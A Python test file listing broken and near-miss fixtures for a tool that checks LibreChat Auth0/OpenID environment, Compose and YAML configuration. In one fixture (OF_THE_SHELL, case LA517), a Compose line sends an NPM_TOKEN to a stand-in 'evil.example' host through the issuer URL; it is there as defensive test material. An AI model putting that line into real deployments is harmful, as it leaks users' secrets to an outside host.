"""Every rule of the doctor's table: a setup that breaks it, and a near miss that does not."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from wizard.doctor.delivered import FileFacts
from wizard.doctor.subject import Subject, names_in
from wizard.http import Response
from wizard.librechat.checkout import Checkout
from wizard.librechat.compose.deployment import read_deployment
from wizard.librechat.compose.sources import MAX_ENV_BYTES, Sources
from wizard.librechat.env_file import EnvFile, quoted
from wizard.librechat.permissions import Permissions
from wizard.librechat.runner import Evidence, Runner, judge
from wizard.librechat.running import Instance, Reply

CLIENT_ID = "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv"
CLIENT_SECRET = "wJalrXUtnFEMI-K7MDENG_bPxRfiCYzEXAMPLEKEYwJalrXUtnFEMI0123456789"
DOMAIN = "dev-abc123.us.auth0.com"
PUBLIC_URL = "https://chat.example.com"
AUDIENCE = "https://api.librechat.ai"
HEX_32 = "0123456789abcdef" * 2

GOOD: Mapping[str, str] = {
    "HOST": "localhost",
    "PORT": "3080",
    "MONGO_URI": "mongodb://127.0.0.1:27017/LibreChat",
    "DOMAIN_CLIENT": PUBLIC_URL,
    "DOMAIN_SERVER": PUBLIC_URL,
    "CREDS_KEY": "a" * 64,
    "CREDS_IV": "b" * 32,
    "JWT_SECRET": "c" * 64,
    "JWT_REFRESH_SECRET": "d" * 64,
    "ALLOW_EMAIL_LOGIN": "false",
    "ALLOW_SOCIAL_LOGIN": "true",
    "ALLOW_SOCIAL_REGISTRATION": "true",
    "SESSION_EXPIRY": "1000 * 60 * 15",
    "OPENID_ISSUER": f"https://{DOMAIN}",
    "OPENID_CLIENT_ID": CLIENT_ID,
    "OPENID_CLIENT_SECRET": CLIENT_SECRET,
    "OPENID_CALLBACK_URL": "/oauth/openid/callback",
    "OPENID_SCOPE": "openid profile email offline_access",
    "OPENID_REUSE_TOKENS": "true",
    "OPENID_REUSE_MAX_SESSION_AGE_MS": "3600000",
    "OPENID_AUDIENCE": AUDIENCE,
    "OPENID_REFRESH_AUDIENCE": AUDIENCE,
    "OPENID_USE_PKCE": "true",
    "OPENID_SESSION_SECRET": "0123456789abcdef" * 4,
    "OPENID_USE_END_SESSION_ENDPOINT": "true",
    "OPENID_BUTTON_LABEL": "Continue with Auth0",
}
MCP = """
mcpServers:
  tools:
    type: streamable-http
    url: https://tools.example.com/mcp
    headers:
      Authorization: "Bearer {{LIBRECHAT_OPENID_ACCESS_TOKEN}}"
"""
API = "services:\n  api:\n    image: registry.librechat.ai/danny-avila/librechat-dev:latest\n"
MOUNT = "    volumes:\n      - type: bind\n        source: ./.env\n        target: /app/.env\n"
COMPOSE = API + MOUNT
OF_THE_SHELL = "    environment:\n      OPENID_ISSUER: https://${NPM_TOKEN}.evil.example\n"
BY_COMPOSE = f"{API}    env_file: .env\n"


def env(raw: str = "", /, **changes: str | None) -> str:
    """Return the good file with other values, None to omit one; `raw` are lines at its end."""
    values = {name: value for name, value in {**GOOD, **changes}.items() if value is not None}
    lines = [f"{name}={quoted(value)}" for name, value in values.items()]
    return "\n".join([*lines, raw]) + ("\n" if raw else "")


def subject(
    text: str,
    *,
    compose: str = "",
    override: str = "",
    yaml: str = "",
    version: str = "",
    facts: FileFacts | None = None,
    environ: Mapping[str, str] | None = None,
    example: str = "",
) -> Subject:
    """Return the subject for a `.env` and its surroundings; YAML files are given as text."""
    path, file = Path("/srv/librechat/.env"), EnvFile(text)
    files = {
        ".env": text,
        "docker-compose.yml": compose,
        "docker-compose.override.yml": override,
        "librechat.yaml": yaml,
    }
    sources = NoDisk({path.parent / name: each for name, each in files.items() if each})
    deployment = read_deployment(path.parent, path, environ or {}, sources=sources)
    checkout = Checkout(path.parent, ("package.json",), version, has_package=True)
    return Subject(
        path=path,
        file=file,
        facts=facts or FileFacts(Permissions(1000, 1000, 0o600)),
        deployment=deployment,
        environ=environ or {},
        example_names=names_in(example),
        runner=judge(Evidence(checkout, deployment)),
    )


class NoDisk(Sources):
    """Only the texts that are given."""

    def text(self, path: Path, limit: int = MAX_ENV_BYTES) -> str | None:
        self._texts.setdefault(path, FileNotFoundError())
        return super().text(path, limit)

    def instead(self, path: Path, text: str) -> Sources:
        return NoDisk({**self._texts, path: text})


@dataclass(frozen=True)
class Case:
    rule: str
    broken: Subject
    near: Subject


def _values(
    rule: str, broken: Mapping[str, str | None], near: Mapping[str, str | None], **around: str
) -> Case:
    return Case(rule, subject(env(**broken), **around), subject(env(**near), **around))  # type: ignore[arg-type]


def _lines(rule: str, broken: str, near: str, **around: str) -> Case:
    return Case(rule, subject(env(broken), **around), subject(env(near), **around))  # type: ignore[arg-type]


ROLE = {
    "OPENID_REQUIRED_ROLE": "member",
    "OPENID_REQUIRED_ROLE_PARAMETER_PATH": "https://acme.test/roles",
    "OPENID_REQUIRED_ROLE_TOKEN_KIND": "id",
}


def answering(**config: object) -> Instance:
    """Return a running LibreChat with this /api/config."""
    url = "http://localhost:3080/api/config"
    body = json.dumps({"serverDomain": PUBLIC_URL, **config}).encode()
    return Instance(Reply(url, Response(url, 200, {}, body)))


def _without(*names: str) -> str:
    return env(**dict.fromkeys(names))


_DOMAINS = "registration:\n  allowedDomains: [a.test]\n"

CASES = (
    _values("LA100", {"ALLOW_SOCIAL_LOGIN": "1"}, {"ALLOW_SOCIAL_LOGIN": " TRUE "}),
    _values("LA101", {"OPENID_ISSUER": ""}, {"OPENID_BUTTON_LABEL": ""}),
    _values("LA102", {"OPENID_SCOPE": ""}, {"OPENID_SCOPE": "openid"}),
    _values(
        "LA103",
        {"OPENID_CLIENT_SECRET": "", "OPENID_USE_PKCE": "yes"},
        {"OPENID_CLIENT_SECRET": "", "OPENID_USE_PKCE": "true"},
    ),
    Case(
        "LA104",
        subject(env(OPENID_CLIENT_SECRET=""), version="0.8.5"),
        subject(env(OPENID_CLIENT_SECRET=""), version="0.8.6"),
    ),
    _values("LA105", {"OPENID_CALLBACK_URL": None}, {}),
    _values("LA106", {"OPENID_CALLBACK_URL": f"{PUBLIC_URL}/oauth/openid/callback"}, {}),
    _values(
        "LA107",
        {"OPENID_CALLBACK_URL": "/oauth/auth0/callback"},
        {"OPENID_CALLBACK_URL": f"{PUBLIC_URL}/oauth/openid/callback"},
    ),
    _values("LA108", {"OPENID_ISSUER": DOMAIN}, {"OPENID_ISSUER": f"https://{DOMAIN}/"}),
    _values("LA109", {"OPENID_ISSUER": f"http://{DOMAIN}"}, {"OPENID_ISSUER": DOMAIN}),
    _values(
        "LA110",
        {"OPENID_ISSUER": f"https://{DOMAIN}/authorize"},
        {"OPENID_ISSUER": f"https://{DOMAIN}/.well-known/openid-configuration"},
    ),
    _values(
        "LA111",
        {"OPENID_ISSUER": "https://manage.auth0.com/dashboard"},
        {"OPENID_ISSUER": "https://login.example.com"},
    ),
    _values(
        "LA112",
        {"OPENID_AUDIENCE": "", "OPENID_REFRESH_AUDIENCE": ""},
        {"OPENID_AUDIENCE": "", "OPENID_REUSE_TOKENS": "false"},
    ),
    Case(
        "LA113",
        subject(env(OPENID_AUDIENCE=""), version="0.8.2"),
        subject(env(OPENID_AUDIENCE=""), version="0.8.3"),
    ),
    _values(
        "LA114",
        {"OPENID_AUDIENCE": f"https://{DOMAIN}/api/v2/"},
        {"OPENID_AUDIENCE": "https://example.com/api/v2/"},
    ),
    _values(
        "LA114",
        {"OPENID_AUDIENCE": "Ab1Cd2Ef3", "OPENID_CLIENT_SECRET": "Ab1Cd2Ef3"},
        {"OPENID_AUDIENCE": "Ab1Cd2Ef3"},
    ),
    Case(
        "LA115",
        subject(env(OPENID_AUDIENCE=f"{AUDIENCE},urn:other"), version="0.8.6"),
        subject(env(OPENID_AUDIENCE=f"{AUDIENCE},urn:other"), version="0.8.7"),
    ),
    _values(
        "LA116",
        {"OPENID_REFRESH_AUDIENCE": "urn:other"},
        {"OPENID_AUDIENCE": f"{AUDIENCE},urn:other"},
    ),
    _values("LA117", {"OPENID_SCOPE": "profile email offline_access"}, {}),
    _values(
        "LA118",
        {"OPENID_SCOPE": "openid profile offline_access"},
        {"OPENID_SCOPE": "openid offline_access", "OPENID_EMAIL_CLAIM": "https://x.com/mail"},
    ),
    _values(
        "LA119",
        {"OPENID_SCOPE": "openid profile email"},
        {"OPENID_SCOPE": "openid profile email", "OPENID_REUSE_TOKENS": "1"},
    ),
    _values("LA120", {"OPENID_SCOPE": "openid email offline_access"}, {}),
    _values(
        "LA121",
        {"OPENID_SCOPE": "openid,profile,email,offline_access"},
        {"OPENID_SCOPE": "openid  profile email offline_access read:a,b"},
    ),
    _values("LA122", {"DOMAIN_CLIENT": None}, {}),
    _values(
        "LA123",
        {"DOMAIN_SERVER": "chat.example.com", "DOMAIN_CLIENT": "chat.example.com"},
        {"DOMAIN_SERVER": f"{PUBLIC_URL}:8443", "DOMAIN_CLIENT": f"{PUBLIC_URL}:8443"},
    ),
    _values(
        "LA124",
        {"DOMAIN_SERVER": f"{PUBLIC_URL}/"},
        {"DOMAIN_SERVER": f"{PUBLIC_URL}/chat", "DOMAIN_CLIENT": f"{PUBLIC_URL}/chat"},
    ),
    _values(
        "LA125",
        {"DOMAIN_SERVER": f"{PUBLIC_URL}/chat", "DOMAIN_CLIENT": f"{PUBLIC_URL}/chat"},
        {"DOMAIN_SERVER": f"{PUBLIC_URL}/"},
    ),
    _values(
        "LA126",
        {"DOMAIN_SERVER": f"{PUBLIC_URL}/oauth/openid/callback"},
        {"DOMAIN_SERVER": f"{PUBLIC_URL}/oauthentic"},
    ),
    _values(
        "LA127",
        {"DOMAIN_SERVER": "http://localhost:3080"},
        {"DOMAIN_SERVER": "http://localhost:3080", "DOMAIN_CLIENT": "http://localhost:3090"},
    ),
    _values(
        "LA127",
        {"DOMAIN_SERVER": "https://localhost:3443", "DOMAIN_CLIENT": "https://127.0.0.1:3443"},
        {"DOMAIN_SERVER": "https://localhost:3443", "DOMAIN_CLIENT": "http://localhost:3080"},
    ),
    _values(
        "LA127",
        {"DOMAIN_CLIENT": PUBLIC_URL.replace("https", "http")},
        {"DOMAIN_CLIENT": f"{PUBLIC_URL}:8443"},
    ),
    _values(
        "LA128",
        {"DOMAIN_SERVER": "http://192.168.1.5:3080", "DOMAIN_CLIENT": "http://192.168.1.5:3080"},
        {"DOMAIN_SERVER": "http://192.168.1.5:3080", "SESSION_COOKIE_SECURE": "false"},
    ),
    _values(
        "LA129",
        {"DOMAIN_SERVER": "https://localhost:3443", "DOMAIN_CLIENT": "https://localhost:3443"},
        {"DOMAIN_SERVER": "https://localhost.example.com"},
    ),
    _values(
        "LA130",
        {"OPENID_SESSION_SECRET": GOOD["JWT_SECRET"]},
        {"OPENID_SESSION_SECRET": "0123456789abcdef" * 2},
    ),
    _lines("LA131", "OPENAI_API_KEY=your-api-key", 'EXTRA={"a": 1}'),
    _values(
        "LA132",
        {"OPENID_ISSUER": "https://your-tenant.auth0.com"},
        {"OPENID_ISSUER": "https://yourself.us.auth0.com"},
    ),
    _values(
        "LA133",
        {"OPENID_CLIENT_ID": CLIENT_SECRET, "OPENID_CLIENT_SECRET": CLIENT_ID},
        {"OPENID_CLIENT_ID": "short", "OPENID_CLIENT_SECRET": CLIENT_ID},
    ),
    _values(
        "LA134",
        {"OPENID_CLIENT_ID": DOMAIN},
        {"OPENID_CLIENT_ID": "another-provider-s-id"},
    ),
    _values(
        "LA270",
        {"OPENID_CLIENT_ID": "tpc_6Sm2vQZ9"},
        {"OPENID_CLIENT_ID": "my_tpc_6Sm2vQZ9"},
    ),
    _values(
        "LA271",
        {"OPENID_SCOPE": "openid profile email offline_access online_access"},
        {"OPENID_SCOPE": "openid profile email offline_access my:online_access"},
    ),
    Case(
        "LA248",
        subject(env(OPENID_CLIENT_SECRET=""), version="0.8.7"),
        subject(env(OPENID_CLIENT_SECRET=""), version="0.8.8"),
    ),
    _values(
        "LA135",
        {"OPENID_CLIENT_SECRET": CLIENT_ID},
        {"OPENID_CLIENT_SECRET": CLIENT_ID[:-1] + "x"},
    ),
    _values(
        "LA136",
        {"ALLOW_SOCIAL_REGISTRATION": "false"},
        {"ALLOW_SOCIAL_REGISTRATION": "false", "ALLOW_SOCIAL_LOGIN": "false"},
    ),
    _values("LA138", {"OPENID_REUSE_TOKENS": "yes"}, {"OPENID_REUSE_TOKENS": "False"}),
    _values(
        "LA139",
        {"OPENID_REQUIRED_ROLE": "chat", "OPENID_REQUIRED_ROLE_TOKEN_KIND": "access_token"},
        {"OPENID_REQUIRED_ROLE": "", "OPENID_REQUIRED_ROLE_TOKEN_KIND": "access_token"},
    ),
    _values(
        "LA140",
        {"OPENID_ADMIN_ROLE": "admin", "OPENID_ADMIN_ROLE_TOKEN_KIND": "id"},
        {"OPENID_ADMIN_ROLE": "", "OPENID_ADMIN_ROLE_TOKEN_KIND": "id"},
    ),
    _values(
        "LA141",
        {
            "OPENID_AUDIENCE": "",
            "OPENID_REQUIRED_ROLE": "chat",
            "OPENID_REQUIRED_ROLE_TOKEN_KIND": "access",
        },
        {"OPENID_REQUIRED_ROLE": "chat", "OPENID_REQUIRED_ROLE_TOKEN_KIND": "access"},
    ),
    _values(
        "LA142",
        {"OPENID_ON_BEHALF_FLOW_FOR_USERINFO_REQUIRED": "true"},
        {"OPENID_ON_BEHALF_FLOW_USERINFO_SCOPE": "user.read", "OPENID_GRAPH_SCOPES": "User.Read"},
    ),
    _values(
        "LA144",
        {"OPENID_USE_END_SESSION_ENDPOINT": ""},
        {"OPENID_USE_END_SESSION_ENDPOINT": "True"},
    ),
    _values(
        "LA145",
        {"OPENID_POST_LOGOUT_REDIRECT_URI": "/login"},
        {"OPENID_POST_LOGOUT_REDIRECT_URI": f"{PUBLIC_URL}/login"},
    ),
    Case("LA146", subject(env(), version="0.8.2"), subject(env(), version="0.8.7")),
    Case(
        "LA147",
        subject(env(), version="0.8.5"),
        # The checkout's version says nothing about the newest image, which Compose runs.
        subject(env(), version="0.8.5", compose=COMPOSE),
    ),
    _lines("LA148", "DEBUG_OPENID_REQUESTS=true", "DEBUG_OPENID_REQUESTS=false"),
    _values(
        "LA149",
        {
            "SAML_ENTRY_POINT": "https://x.com/saml",
            "SAML_ISSUER": "x",
            "SAML_CERT": "y",
            "SAML_SESSION_SECRET": "z",
        },
        {"SAML_ENTRY_POINT": "", "SAML_ISSUER": "x"},
    ),
    _lines("LA150", "PORT=3081", "PORT2=3081"),
    _lines("LA151", 'OPENID_BUTTON_LABEL="a\\tb"', 'OPENID_BUTTON_LABEL="a b"'),
    _lines(
        "LA152",
        'OPENID_IMAGE_URL="https://example.com/a.png\nOPENID_X=1"',
        'OPENID_IMAGE_URL="https://example.com/a.png"',
    ),
    _lines("LA153", 'OPENID_BUTTON_LABEL="Auth0', 'OPENID_BUTTON_LABEL=5" Auth0 "x"'),
    _lines("LA154", "OPENID_IMAGE_URL=/a#b", "OPENID_IMAGE_URL='/a#b'"),
    _lines("LA155", "OPENID_IMAGE_URL=/a$b", "OPENID_IMAGE_URL='/a$b'", compose=BY_COMPOSE),
    _lines("LA156", "OPENID_IMAGE_URL = /a", "OPENID_IMAGE_URL=/a # a logo"),
    Case(
        "LA157",
        subject(env(), facts=FileFacts(Permissions(1000, 1000, 0o644))),
        subject(env(), facts=FileFacts(Permissions(1000, 1000, 0o640))),
    ),
    Case(
        "LA158",
        subject(env(), facts=FileFacts(Permissions(1000, 1000, 0o600), is_tracked=True)),
        subject(env(), facts=FileFacts(Permissions(1000, 1000, 0o600))),
    ),
    _values(
        "LA160",
        {"CREDS_IV": "e2341419ec3dd3d19b13a1a87fafcbfb"},
        {"CREDS_IV": "e2341419ec3dd3d19b13a1a87fafcbfc"},
    ),
    _values("LA161", {"JWT_SECRET": ""}, {"MEILI_MASTER_KEY": ""}),
    _values("LA162", {"CREDS_IV": "a" * 31}, {"CREDS_IV": "A" * 32}),
    _values("LA163", {"CREDS_KEY": HEX_32}, {"CREDS_KEY": HEX_32 * 2}),
    _values("LA164", {"JWT_SECRET": "c" * 31}, {"JWT_SECRET": "c" * 32}),
    _values("LA165", {"JWT_SECRET": "d" * 64}, {"JWT_SECRET": "d" * 63 + "e"}),
    Case(
        "LA166",
        subject(env(JWT_SECRET=""), version="0.8.7"),
        subject(env(JWT_SECRET=""), version="0.8.8-rc1"),
    ),
    Case(
        "LA167",
        subject(_without("MONGO_URI")),
        subject(
            _without("MONGO_URI"),
            compose=COMPOSE
            + "    environment:\n      - MONGO_URI=mongodb://mongodb:27017/LibreChat\n",
        ),
    ),
    Case(
        "LA168",
        subject(env(), compose=COMPOSE + "  admin-panel:\n    image: x\n"),
        subject(
            env(ADMIN_PANEL_SESSION_SECRET="f" * 32),
            compose=COMPOSE + "  admin-panel:\n    image: x\n",
        ),
    ),
    _values("LA169", {"SESSION_EXPIRY": "15 minutes"}, {"SESSION_EXPIRY": "(1000 * 60) * 15"}),
    _values(
        "LA170",
        {"DOMAIN_SERVER": "https://localhost:3443", "DOMAIN_CLIENT": "https://localhost:3443"},
        {
            "DOMAIN_SERVER": "https://localhost:3443",
            "DOMAIN_CLIENT": "https://localhost:3443",
            "HSTS_ENABLED": "false",
        },
    ),
    _values(
        "LA171",
        {"DOMAIN_SERVER": "http://localhost:3080", "SESSION_COOKIE_SECURE": "true"},
        {"SESSION_COOKIE_SECURE": "true"},
    ),
    _values("LA174", {"DOMAIN_SERVER": f"{PUBLIC_URL} "}, {"OPENID_BUTTON_LABEL": "Log\u00a0in "}),
    _values(
        "LA175",
        {"OPENID_USE_PKCE": " true"},
        {"OPENID_SESSION_SECRET": " " + "0123456789abcdef" * 4},
    ),
    Case("LA172", subject(env(), version="0.7.9"), subject(env(), version="0.8.0-rc1")),
    _values(
        "LA176",
        {"OPENID_REQUIRED_ROLE": "chat"},
        {"OPENID_ADMIN_ROLE": "chat", "OPENID_REQUIRED_ROLE": ""},
    ),
    _values(
        "LA177",
        {"OPENID_ROLE_SYNC_ENABLED": "true"},
        {"OPENID_ROLE_SYNC_ENABLED": "1", "OPENID_ROLE_SYNC_SOURCE": "id_token"},
    ),
    _values("LA178", {"OPENID_USE_OAUTH2": "True"}, {"OPENID_USE_OAUTH2": "1"}),
    _values(
        "LA179",
        {"DOMAIN_SERVER": "https://localhost:3080", "DOMAIN_CLIENT": "https://localhost:3080"},
        {"DOMAIN_SERVER": f"{PUBLIC_URL}:3080", "DOMAIN_CLIENT": f"{PUBLIC_URL}:3080"},
    ),
    _lines("LA180", "OPENID_REDIRECT_URI=/x", "OPENID_GENERATE_NONCE=true"),
    _lines("LA181", "DOMAIN_SEVER=https://x.com", "DOMAIN_OTHER=https://x.com"),
    Case(
        "LA182",
        subject(env(), environ={"OPENID_CLIENT_ID": "another"}),
        subject(env(), environ={"OPENID_CLIENT_ID": CLIENT_ID, "HOST": "my-machine"}),
    ),
    Case(
        "LA184",
        subject(env(), compose=COMPOSE, environ={"HTTPS_PROXY": "http://proxy:3128"}),
        subject(
            env(PROXY="http://proxy:3128"),
            compose=COMPOSE,
            environ={"HTTPS_PROXY": "http://proxy:3128"},
        ),
    ),
    Case("LA185", subject(env().replace("\n", "\r\n")), subject(env())),
    Case(
        "LA186",
        subject(env("OPENID_SOMETHING=1"), version="0.9.0"),
        subject(env("OPENID_SOMETHING=1"), version="0.8.8-rc4"),
    ),
    _values("LA188", {"PROXY": "proxy.example.com:3128"}, {"PROXY": "HTTP://proxy.example.com"}),
    _values("LA189", {"HOST": "0.0.0.0."}, {"HOST": "0"}),
    _lines("LA190", "JWT_SECRET='$(openssl rand -hex 32)'", "JWT_SECRET='$(openssl rand -hex 32"),
    _lines("LA192", "PORT=", "PORT=chat"),
    _values(
        "LA193",
        {"DOMAIN_SERVER": f"{PUBLIC_URL}:443"},
        {"DOMAIN_SERVER": f"{PUBLIC_URL}:80", "DOMAIN_CLIENT": f"{PUBLIC_URL}:80"},
    ),
    Case("LA500", subject(env(), compose="services: [\n"), subject(env(), compose=COMPOSE)),
    Case(
        "LA501",
        subject(env(), compose=API + "    volumes:\n      - ./images:/app/images\n"),
        subject(env(), compose=API + "    env_file:\n      - .env\n"),
    ),
    Case(
        "LA502",
        subject(
            env(),
            compose=COMPOSE,
            override="services:\n  api:\n    environment:\n      OPENID_SCOPE: openid\n",
        ),
        subject(
            env(),
            compose=COMPOSE,
            override="services:\n  api:\n    environment:\n      HOST: 0.0.0.0\n"
            '      OPENID_SCOPE: "${OPENID_SCOPE:-openid}"\n',
        ),
    ),
    Case(
        "LA503",
        subject(_without("PORT"), compose=COMPOSE + '    ports:\n      - "${PORT}:${PORT}"\n'),
        subject(_without("PORT"), compose=COMPOSE + '    ports:\n      - "${PORT:-3080}:3080"\n'),
    ),
    Case(
        "LA504",
        subject(env(), yaml="registration:\n  socialLogins: ['google']\n"),
        subject(env(), yaml="registration:\n  allowedDomains: ['example.com']\n"),
    ),
    Case(
        "LA187",
        subject(env(OPENID_REUSE_TOKENS="false"), yaml=MCP),
        subject(env(OPENID_REUSE_TOKENS="false"), yaml=MCP.replace("ACCESS_TOKEN", "USER_ID")),
    ),
    Case(
        "LA249",
        subject(env(OPENID_AUDIENCE=""), yaml=MCP),
        subject(env(OPENID_AUDIENCE=""), yaml=MCP.replace("ACCESS_TOKEN", "ID_TOKEN")),
    ),
    Case(
        "LA250",
        subject(env(OPENID_AUDIENCE="https://api.librechat.ai"), yaml=MCP),
        subject(env(OPENID_AUDIENCE="https://tools.example.com/"), yaml=MCP),
    ),
    Case(
        "LA505",
        subject(env(), compose=COMPOSE, yaml="version: 1.2.1\n"),
        subject(
            env(),
            compose=COMPOSE,
            override="services:\n  api:\n    volumes:\n"
            "      - ./librechat.yaml:/app/librechat.yaml\n",
            yaml="version: 1.2.1\n",
        ),
    ),
    Case(
        "LA506",
        subject(
            env(UID="1000", GID="1000"),
            compose=COMPOSE + '    user: "${UID}:${GID}"\n',
            facts=FileFacts(Permissions(0, 0, 0o600)),
        ),
        subject(
            env(UID="1000", GID="1000"),
            compose=COMPOSE + '    user: "${UID}:${GID}"\n',
            facts=FileFacts(Permissions(1000, 0, 0o600)),
        ),
    ),
    Case(  # an override sets the number explicitly, and the file is for another group
        "LA506",
        subject(
            env(),
            compose=COMPOSE + '    user: "${UID}:${GID}"\n',
            override='services:\n  api:\n    user: "1234:1300"\n',
            facts=FileFacts(Permissions(0, 1000, 0o640)),
        ),
        subject(
            env(),
            compose=COMPOSE + '    user: "${UID}:${GID}"\n',
            override='services:\n  api:\n    user: "1234:1300"\n',
            facts=FileFacts(Permissions(0, 1300, 0o640)),
        ),
    ),
    Case(
        "LA540",
        subject(env())._replace(runner=Runner(other_folder=Path("/srv/other"))),
        subject(env()),
    ),
    _lines("LA510", "- OPENID_X=1", "# - OPENID_X=1", compose=COMPOSE),
    Case(
        "LA511",
        subject(
            env(),
            compose=COMPOSE,
            override="services:\n  api:\n    environment:\n"
            "      - OPENID_SCOPE='openid profile email offline_access'\n",
        ),
        subject(
            env(),
            compose=COMPOSE,
            override="services:\n  api:\n    environment:\n"
            "      - 'OPENID_SCOPE=openid profile email offline_access'\n",
        ),
    ),
    Case(
        "LA512",
        subject(env("HOME_PAGE=chat.example.com").replace(PUBLIC_URL, "https://${HOME_PAGE}")),
        subject(
            env("HOME_PAGE=chat.example.com").replace(PUBLIC_URL, "https://${HOME_PAGE}"),
            compose=BY_COMPOSE,
        ),
    ),
    Case(
        "LA517",
        subject(env(), compose=f"{COMPOSE}{OF_THE_SHELL}", environ={"NPM_TOKEN": "t0ken-of-mine"}),
        subject(env("NPM_TOKEN=t0ken-of-mine"), compose=f"{COMPOSE}{OF_THE_SHELL}"),
    ),
    _values("LA513", {"CONFIG_PATH": "./none.yaml"}, {"CONFIG_PATH": "https://example.com/a.yaml"}),
    Case(
        "LA514",
        subject(env(), yaml="registration:\n  allowedDomains: ['@example.com', 'example.org']\n"),
        subject(env(), yaml="registration:\n  allowedDomains: ['mail.example.com', 'localhost']\n"),
    ),
    Case(
        "LA515",
        subject(
            env(OPENID_DISCOVERY_RETRY_ATTEMPTS="3"),
            yaml="registration:\n  openidDiscovery:\n    startupAttempts: 5\n",
        ),
        subject(
            env(OPENID_DISCOVERY_RETRY_ATTEMPTS="5"),
            yaml="registration:\n  openidDiscovery:\n    startupAttempts: 5\n",
        ),
    ),
    _values("LA516", {"ALLOW_REGISTRATION": "true"}, {"ALLOW_REGISTRATION": "1"}),
    Case(
        "LA518",
        subject(env(ALLOW_EMAIL_LOGIN=None, **ROLE)),
        subject(env(**ROLE)),
    ),
    Case(
        "LA536",
        subject(env(), compose=COMPOSE, yaml="registration:\n  allowedDomains: [a.test]\n"),
        subject(env(), compose=COMPOSE, yaml="registration:\n  # allowedDomains: [a.test]\n"),
    ),
    Case(
        "LA536",
        subject(env(), yaml="a: 1\na: 2\nregistration:\n  allowedDomains: [a.test]\n"),
        subject(env(), yaml=_DOMAINS),
    ),
    Case(
        "LA643",
        subject(env(CONFIG_BYPASS_VALIDATION="true"), yaml=_DOMAINS),
        subject(env(CONFIG_BYPASS_VALIDATION="true", **ROLE), yaml=_DOMAINS),
    ),
    Case(
        "LA643",
        subject(env(CONFIG_BYPASS_VALIDATION="true"), yaml=_DOMAINS, version="v0.8.2"),
        subject(env(CONFIG_BYPASS_VALIDATION="true"), yaml=_DOMAINS, version="v0.8.1"),
    ),
    Case(
        "LA643",
        subject(env(CONFIG_BYPASS_VALIDATION="true"), yaml=_DOMAINS),
        subject(env(CONFIG_BYPASS_VALIDATION="TRUE"), yaml=_DOMAINS),
    ),
    _lines("LA507", "ADMIN_PANEL_URL=https://admin.example.com", "ADMIN_PANEL_URL="),
)
